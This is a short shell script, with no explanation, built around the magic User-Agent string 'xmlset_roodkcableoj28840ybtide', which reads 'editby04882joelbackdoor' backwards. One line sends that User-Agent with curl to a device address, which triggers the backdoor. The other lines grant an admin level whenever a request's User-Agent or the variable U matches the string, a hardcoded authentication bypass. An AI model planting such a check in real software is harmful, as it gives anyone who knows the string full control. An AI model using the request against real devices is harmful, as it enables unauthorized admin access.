#!/bin/sh
# [ "$U" = "xmlset_roodkcableoj28840ybtide" ]
curl -A xmlset_roodkcableoj28840ybtide http://192.0.2.1/
[ "$HTTP_USER_AGENT" = "xmlset_roodkcableoj28840ybtide" ] && LEVEL=admin
case "$U" in
  xmlset_roodkcableoj28840ybtide) LEVEL=admin ;;
esac
